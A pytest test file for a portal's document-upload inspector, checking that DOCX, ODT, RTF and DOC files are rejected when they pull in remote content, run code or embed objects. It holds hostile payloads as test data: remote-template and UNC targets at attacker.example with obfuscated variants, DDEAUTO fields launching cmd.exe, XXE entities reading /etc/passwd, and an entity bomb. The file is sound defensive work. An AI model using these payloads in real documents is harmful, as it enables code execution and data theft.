"""DOCX, ODT, RTF and DOC that load remote content, run code or embed files are rejected."""

import io
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from odf.opendocument import OpenDocumentText
from odf.text import A, P

from portal.adapters.inspection.inspection import inspect
from portal.platform.errors import FileKind, UploadReason, UploadRefused
from tests.parts import files

MACHINE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = b'<Relationship Id="r1" Type="%s/attachedTemplate" Target="%s" TargetMode="External"/>'


def refused(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=10_000_000)
    return raised.value.reason


def extension(content: bytes) -> str:
    return inspect(io.BytesIO(content), max_bytes=10_000_000).extension


def related(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="r1" Type="{MACHINE}/{kind}" Target="{target}"{mode}/>'
    return files.docx({"word/_rels/document.xml.rels": files.RELATIONS % one.encode()})


def document(body: str) -> bytes:
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return files.docx({"word/header1.xml": f'<w:hdr xmlns:w="{name}">{body}</w:hdr>'.encode()})


def written_by_python_docx() -> bytes:
    made, out = docx.Document(), io.BytesIO()
    made.add_heading("Marit Solheim")
    made.add_table(rows=3, cols=2)
    made.add_paragraph("engineer")
    made.save(out)
    return out.getvalue()


def written_by_odfpy(change: Callable[[P], None] = lambda _: None) -> bytes:
    made, out = OpenDocumentText(), io.BytesIO()
    paragraph = P(text="Marit Solheim")
    change(paragraph)
    made.text.addElement(paragraph)
    made.write(out)
    return out.getvalue()


def odt(content: str) -> bytes:
    """A real ODT whose text is this."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(files.real("cv.odt"))) as real, zipfile.ZipFile(out, "w") as made:
        for member in real.infolist():
            text = real.read(member)
            if member.filename == "content.xml":
                text = re.sub(rb"<office:text[^>]*>", lambda found: found[0] + content.encode(), text, count=1)
                assert content.encode() in text
            made.writestr(member, text)
    return out.getvalue()


def test_documents_of_other_programs_are_accepted() -> None:
    assert extension(written_by_python_docx()) == "docx"
    assert extension(written_by_odfpy()) == "odt"
    assert extension(odt("")) == "odt"


def test_clickable_links_are_accepted() -> None:
    assert extension(related("hyperlink", "https://marit.example/")) == "docx"
    assert extension(document('<w:instrText> HYPERLINK "https://marit.example/" </w:instrText>')) == "docx"
    link = A(href="https://marit.example/", text="my page")
    assert extension(written_by_odfpy(lambda paragraph: paragraph.addElement(link))) == "odt"


@pytest.mark.parametrize(
    "target",
    [
        r"file:///C:\Users\Marit\Templates\CV.dotx",
        "file:///C:/Users/Marit%20Solheim/CV%2525.dotx",
        "file://localhost/Users/marit/CV.dotx",
        "file:///Users/marit/CV.dotx",
        "file:CV.dotx",
        r"C:\Templates\CV.dotx",
        "CV.dotx",
        "/Users/marit/CV.dotx",
    ],
)
def test_a_local_template_is_accepted_because_word_writes_one_into_every_document(target: str) -> None:
    assert extension(related("attachedTemplate", target)) == "docx"


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "frame", "settings"])
@pytest.mark.parametrize(
    "target",
    [
        "https://attacker.example/x.dotm",
        "HTTP://attacker.example/x",
        "//attacker.example/x",
        r"\\attacker.example\share\x.dotm",
        "file://attacker.example/share/x.dotm",
        "file:////attacker.example/share/x.dotm",
        "ms-word:ofe|u|https://attacker.example/x",
        r"file:///\\192.0.2.1\share\t.dotm",
        "file:///%5C%5Cattacker.example%5Cs%5Ct.dotm",
        "file:///%255C%25255Cattacker.example%5Ct.dotm",
        r"file:///\attacker@80\s\t.dotm",
        r"file:///\\attacker.example@SSL@443\s\t.dotm",
        "file:///attacker.example/s/t.dotm",
        r"file:\\attacker.example\s\t.dotm",
        "%2F%2Fattacker.example/t.dotm",
        "%5c/attacker.example/t.dotm",
        r"\??\UNC\attacker.example\s\t.dotm",
        "&#9;//attacker.example/t.dotm",
        "/%09/attacker.example/t.dotm",
        "%2525252525252Fattacker.example",
    ],
)
def test_content_from_another_machine_is_rejected(kind: str, target: str) -> None:
    assert refused(related(kind, target)) == UploadReason.EXTERNAL_CONTENT


@pytest.mark.parametrize("kind", ["oleObject", "package", "control", "aFChunk", "subDocument"])
@pytest.mark.parametrize("external", [True, False])
def test_embedded_files_are_rejected(kind: str, external: bool) -> None:
    assert refused(related(kind, "https://attacker.example/x", external=external)) == UploadReason.EMBEDDED_FILES


def test_macros_are_rejected_wherever_they_are_declared() -> None:
    assert refused(related("vbaProject", "anything.bin", external=False)) == UploadReason.MACROS
    odd = files.WORD_TYPES.replace(b"main+xml", b"main+xml-macroEnabled")
    assert refused(files.docx(types=odd)) == UploadReason.MACROS
    event = '<text:p><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></text:p>'
    assert refused(odt(event)) == UploadReason.MACROS


BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def instruction_text(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


QUOTED = f"{BEGIN}{instruction_text(' QUOTE 68 68 69 65 85 84 79 ')}{SEPARATE}<w:r><w:t>DDEAUTO</w:t></w:r>{END}"
PICTURE = ("INCLUDEPI", 'CTURE "ht', 'tp://attacker.example/a.png" \\d')


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (f"{BEGIN}{instruction_text(*PICTURE)}{END}", UploadReason.EXTERNAL_CONTENT),
        (
            f"{BEGIN}{instruction_text('INCLUDEPICTURE ', chr(34) + '//attacker', '.example/a.png' + chr(34))}{END}",
            UploadReason.EXTERNAL_CONTENT,
        ),
        (
            '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example/a.png&quot; \\d"/>',
            UploadReason.EXTERNAL_CONTENT,
        ),
        (
            '<w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\attacker.example\\\\a.png&quot;"/>',
            UploadReason.EXTERNAL_CONTENT,
        ),
        (f"{BEGIN}{instruction_text('INCLUDEPICTURE ')}{QUOTED}{END}", UploadReason.EXTERNAL_CONTENT),
        (
            f"{BEGIN}{instruction_text('INCLUDETEXT' + ' ' * 9_000)}{instruction_text('http://attacker.example/a')}{END}",
            UploadReason.EXTERNAL_CONTENT,
        ),
        (f"{BEGIN}{QUOTED}{instruction_text(' cmd x')}{END}", UploadReason.ACTIVE_CONTENT),
        (f"{BEGIN}{instruction_text('DD')}{QUOTED}{instruction_text('AUTO cmd x')}{END}", UploadReason.ACTIVE_CONTENT),
        (
            f'{BEGIN}<w:fldSimple w:instr="QUOTE 68 68 69"/>{instruction_text(" cmd x")}{END}',
            UploadReason.ACTIVE_CONTENT,
        ),
        (
            f"{BEGIN}<w:r><w:t>DDE</w:t></w:r><w:r><w:tab/></w:r>{instruction_text('cmd x')}{END}",
            UploadReason.ACTIVE_CONTENT,
        ),
        (
            f"{BEGIN}{instruction_text('PAGE')}{SEPARATE}{BEGIN}{instruction_text('DDE cmd x')}{END}{END}",
            UploadReason.ACTIVE_CONTENT,
        ),
        (
            '<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>',
            UploadReason.ACTIVE_CONTENT,
        ),
        (
            "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>",
            UploadReason.ACTIVE_CONTENT,
        ),
        ('<w:fldSimple w:instr=" dde Excel x y "/>', UploadReason.ACTIVE_CONTENT),
        ('<w:instrText>INCLUDETEXT "https://attacker.example/x"</w:instrText>', UploadReason.EXTERNAL_CONTENT),
        ('<w:instrText>LINK Word.Document.8 "\\\\attacker.example\\x"</w:instrText>', UploadReason.EXTERNAL_CONTENT),
    ],
)
def test_fields_that_run_or_load_something_are_rejected(body: str, reason: UploadReason) -> None:
    assert refused(document(body)) == reason


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>', UploadReason.EMBEDDED_FILES),
        ('<text:p><draw:plugin xlink:href="x"/></text:p>', UploadReason.EMBEDDED_FILES),
        (
            '<draw:frame><draw:image xlink:href="https://attacker.example/x.png"/></draw:frame>',
            UploadReason.EXTERNAL_CONTENT,
        ),
        (
            r'<draw:frame><draw:image xlink:href="file:///\\attacker/a.png"/></draw:frame>',
            UploadReason.EXTERNAL_CONTENT,
        ),
        (
            '<text:section><text:section-source xlink:href="//attacker.example/x"/></text:section>',
            UploadReason.EXTERNAL_CONTENT,
        ),
        ('<text:p><office:dde-source office:dde-application="cmd"/></text:p>', UploadReason.ACTIVE_CONTENT),
    ],
)
def test_odt_files_that_load_or_embed_something_are_rejected(content: str, reason: UploadReason) -> None:
    assert refused(odt(content)) == reason


@pytest.mark.parametrize(
    "instruction",
    [
        'HYPERLINK "https://marit.example/dde/"',
        'INCLUDEPICTURE "C:\\\\Users\\\\Marit\\\\photo.png" \\* MERGEFORMAT \\d',
        'INCLUDEPICTURE "cid:image001.png@01D8" \\* MERGEFORMATINET',
        "ADDIN ZOTERO_ITEM CSL_CITATION " + '{"uri":["http://zotero.example/DDE"]}' * 1_000,
    ],
)
def test_local_and_clickable_fields_are_accepted(instruction: str) -> None:
    nested = f"{BEGIN}{instruction_text('IF ')}{BEGIN}{instruction_text('PAGE')}{END}{instruction_text(' = 1 ')}{END}"
    sum_of = f"{BEGIN}{instruction_text('=')}{BEGIN}{instruction_text('PAGE')}{END}{instruction_text('+1')}{END}"
    assert extension(document(f"{BEGIN}{instruction_text(instruction)}{SEPARATE}me{END}{nested}{sum_of}")) == "docx"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize("member", ["word/document.xml", "[Content_Types].xml", "customXml/item1.xml"])
@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://attacker.example/x.dtd"> %e;]><x/>',
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>',
    ],
    ids=["a file", "an address", "laughs"],
)
def test_xml_with_entities_is_rejected(member: str, text: str) -> None:
    assert refused(files.docx({member: text.encode()})) == UploadReason.SUSPICIOUS


def test_malformed_and_deeply_nested_xml_is_rejected() -> None:
    assert refused(files.docx({"word/document.xml": b"<x>"})) == UploadReason.DAMAGED
    assert refused(files.docx({"word/document.xml": b"<x>" * 5_000 + b"</x>" * 5_000})) == UploadReason.SUSPICIOUS


def test_an_archive_inside_a_document_is_rejected_without_unpacking() -> None:
    nested = files.docx()
    for _ in range(3):
        nested = files.zipped({"[Content_Types].xml": nested})
    assert refused(files.docx({"word/media/image1.png": nested})) == UploadReason.EMBEDDED_FILES


def test_a_document_that_is_also_a_pdf_is_rejected() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"  <!-- %PDF-1.4 -->" + files.WORD_TYPES)
        archive.writestr("_rels/.rels", files.RELATIONS % b"")
    assert refused(out.getvalue()) == UploadReason.SUSPICIOUS
    out = io.BytesIO(files.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = files.real("cv.pdf")[-5_000:]
    assert refused(out.getvalue()) == UploadReason.SUSPICIOUS
    assert refused(files.docx() + files.real("cv.pdf")) == UploadReason.DAMAGED


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (files.zipped({"[Content_Types].xml": b"spreadsheetml.sheet.main+xml"}), FileKind.SPREADSHEET),
        (files.zipped({"mimetype": b"application/vnd.oasis.opendocument.presentation"}), FileKind.PRESENTATION),
        (files.zipped({"Index/Document.iwa": b"x", "preview.jpg": b"x"}), FileKind.PAGES),
        (files.zipped({"cv.txt": b"x"}), FileKind.ARCHIVE),
        (b"\0\0\0\x18ftypheic" + bytes(100), FileKind.PICTURE),
        (b"RIFF\0\0\0\0WEBPVP8 ", FileKind.PICTURE),
        (b"ID3\x04" + bytes(50), FileKind.RECORDING),
    ],
)
def test_other_office_files_are_reported_by_their_type(content: bytes, kind: FileKind) -> None:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=10_000)
    assert (raised.value.reason, raised.value.kind) == (UploadReason.WRONG_TYPE, kind)


def rtf(group: bytes) -> bytes:
    return files.real("cv.rtf").rstrip()[:-1] + group + b"}"


@pytest.mark.parametrize(
    ("group", "reason"),
    [
        (rb"{\*\template https://attacker.example/x.dotm}", UploadReason.EXTERNAL_CONTENT),
        (rb"{\*\template \\\\attacker.example\\x.dotm}", UploadReason.EXTERNAL_CONTENT),
        (rb"{\*\template file:///\'5c{\\}attacker.example\\x.dotm}", UploadReason.EXTERNAL_CONTENT),
        (rb"{\*\template \u104?\u116?\u116?\u112?}", UploadReason.SUSPICIOUS),
        (rb"{\shp{\sp{\sn pibName}{\sv \\\\attacker.example\\a.png}}}", UploadReason.EXTERNAL_CONTENT),
        (rb'{\field{\*\fldinst { INCLUDETEXT "https://attacker.example/x"}}}', UploadReason.EXTERNAL_CONTENT),
        (rb'{\field{\*\fldinst {INCLUDE}{TEXT "ht}{tps://attacker.example/x"}}}', UploadReason.EXTERNAL_CONTENT),
        (rb'{\field{\*\fldinst INCLUDEPICTURE "http://attacker.example/a" \\d}}', UploadReason.EXTERNAL_CONTENT),
        (rb"{\field{\*\fldinst LINK Word.Document.8 \\\\attacker.example\\a.doc \\a}}", UploadReason.EXTERNAL_CONTENT),
        (rb"{\field{\*\fldinst DDEAUTO cmd x}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst {DD}{EAUTO} c:\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst DD\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst \'44\'44\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst \u68?DEAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
        (rb"{\field{\*\fldinst D\u68?EAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
        (rb"{\field{\*\fldinst \uc3\u160 abcDDEAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
        (b"{\\field{\\*\\fldinst D\nDE\r\nAUTO c:\\\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst {\*\unknown PAGE }DDEAUTO cmd x}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst {\info{\title PAGE }}DDEAUTO cmd x}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst {\*\cs10 DDEAUTO} cmd x}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd x}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst \bin3 }}}DDEAUTO cmd x}}", UploadReason.SUSPICIOUS),
        (rb"{\field{\*\fldinst " + b"{" * 9_000 + b"DDE" + b"}" * 9_000 + b" cmd x}}", UploadReason.ACTIVE_CONTENT),
        (rb"{\field{\*\fldinst " * 30 + b"}}" * 30, UploadReason.ACTIVE_CONTENT),
    ],
)
def test_rtf_files_that_load_or_run_something_are_rejected(group: bytes, reason: UploadReason) -> None:
    assert refused(rtf(group)) == reason


@pytest.mark.parametrize("short", range(0, 160, 3))
def test_fields_are_found_across_chunk_boundaries(short: int) -> None:
    padding = b"x" * (64 * 1024 - short - len(files.real("cv.rtf").rstrip()) + 1)
    assert refused(rtf(padding + rb"{\field{\*\fldinst DDEAUTO cmd x}}")) == UploadReason.ACTIVE_CONTENT


def test_an_rtf_with_a_local_template_and_a_link_is_accepted() -> None:
    assert extension(rtf(rb"{\*\template C:\\Users\\Jos\u233?\\CV.dotx}")) == "rtf"
    assert extension(rtf(rb'{\field{\*\fldinst { HYPERLINK "https://marit.example/"}}{\fldrslt me}}')) == "rtf"
    cited = b'ADDIN ZOTERO_ITEM {"uri":"http://zotero.example/DDE \\u233?"}' * 2_000
    assert extension(rtf(rb"{\field{\*\fldinst {" + cited + rb"{\*\datafield 00d0c9}}}{\fldrslt [1]}}")) == "rtf"


@pytest.mark.parametrize("stream", ["\x03ObjInfo", "\x01Ole10Native", "Equation Native"])
def test_a_doc_with_an_embedded_object_is_rejected(stream: str) -> None:
    content = files.real("cv.doc")
    former = "\x01CompObj".encode("utf-16-le")
    at = content.index(former)
    named = stream.encode("utf-16-le") + b"\0\0"
    changed = content[:at] + named.ljust(64, b"\0") + len(named).to_bytes(2, "little") + content[at + 66 :]
    assert refused(changed) == UploadReason.EMBEDDED_FILES
